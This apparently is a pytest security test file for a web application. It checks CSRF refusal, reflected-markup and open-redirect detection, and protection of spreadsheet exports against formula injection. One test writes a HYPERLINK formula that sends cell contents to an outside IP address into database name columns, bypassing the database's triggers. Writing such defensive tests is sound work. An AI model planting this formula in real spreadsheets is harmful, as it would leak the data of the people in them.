"""Every page before forged forms, tables before words that look like formulas; `make attack` goes over all forms."""

from __future__ import annotations

import ast
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import psycopg
import pytest

from infra.attack import pages
from infra.attack.pages import Rain
from services.core import embedded
from tests.browser.addresses import ADDRESSES, NOT_PAGES

SERVICES = Path(__file__).resolve().parents[2] / "services"
FORMULA = '=HYPERLINK("http://198.51.100.7/?"&A1,"点这里")'
LINK = "http://198.51.100.7/x"
TABLE = re.compile(r"workbook|table|list|errors|summary|template|copy|/file")
SLOW = ("/print-files/file", "/letter-samples/{code}/file", "/monthly/{letter_id}/file", "/letter-register/{notice_id}/file")     # letters
NAMES = ("organisation.name", "person.name", "liaison.name", "case_file.reporter_name")      # columns that people fill


@pytest.fixture(scope="module")
def rain(server: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rain]:
    with pages.raining(server, tmp_path_factory.mktemp("keys")) as falling:
        yield falling


def test_a_form_from_elsewhere_is_refused_by_every_page(rain: Rain) -> None:
    """Cross-site request forgery: by the request's origin, and by the session's own word in the form, each alone."""
    assert pages.forged(rain) == []


def test_what_is_wrong_with_an_answer_is_seen() -> None:
    careful = {**pages.CAREFUL, "content-type": "text/html; charset=utf-8"}
    assert list(pages.faults(httpx.Response(200, headers=careful, text="<p>&lt;b id=q7&gt;</p>"))) == []
    assert list(pages.faults(httpx.Response(200, headers=careful, text='"><b id=q7>'))) == ["brings markup back"]
    assert list(pages.faults(httpx.Response(500))) == ["500"]
    assert list(pages.faults(httpx.Response(303, headers={"location": "//evil.example"}))) == ["leads to //evil.example"]
    assert list(pages.faults(httpx.Response(200, headers={"content-type": "text/html"}))) == [f"no {name}" for name in pages.CAREFUL]


def test_every_workbook_that_is_written_takes_words_for_words() -> None:
    """xlsxwriter makes a formula of `=…` and a link of `http…` unless it is told not to, at each place."""
    told, kept = 0, []
    for path in sorted(SERVICES.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())) if "xlsxwriter" in path.read_text() else ():
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "Workbook":
                told += 1
                options = ast.literal_eval(node.args[1]) if len(node.args) > 1 else {}
                if options.get("strings_to_formulas", True) or options.get("strings_to_urls", True):
                    kept.append(f"{path.name}:{node.lineno}")
    assert told > 20
    assert kept == []


def test_no_table_that_is_saved_holds_a_formula_or_a_link(rain: Rain) -> None:
    """Names of organisations, people and hospitals that look like formulas and links, in the tables that pages give to save."""
    with psycopg.connect(embedded.with_user(rain.api.db.url, "postgres"), autocommit=True) as connection:
        connection.execute("SET session_replication_role = replica")        # past the checks at the doors
        for table, column in (name.split(".") for name in NAMES):
            connection.execute(f"UPDATE {table} SET {column} = %s", [FORMULA])
        connection.execute("UPDATE case_file SET hospital = %s", [LINK])
    values = {name: getattr(rain.stage, name) for name in dir(rain.stage) if isinstance(getattr(rain.stage, name), str)}
    tables, as_words, hurt = set(), set(), []
    for route in sorted(route for route in NOT_PAGES & ADDRESSES.keys() if TABLE.search(route) and route not in SLOW):
        login, where = ADDRESSES[route]
        answer = rain.ask(login, "GET", where.format(**values))
        if answer.content[:2] != b"PK" or "xl/workbook.xml" not in (book := zipfile.ZipFile(io.BytesIO(answer.content))).namelist():
            continue
        tables.add(route)
        parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))}
        whole = "".join(parts.values())
        if "198.51.100.7" in whole:
            as_words.add(route)
        formulas = re.findall(r"<f[ >].*?</f>", whole, re.DOTALL)
        if any("198.51" in text for text in formulas) or any("198.51" in parts[name] for name in parts if name.endswith(".rels")):
            hurt.append(route)
    assert hurt == []
    assert len(tables) > 5 and len(as_words) > 2, (tables, as_words)
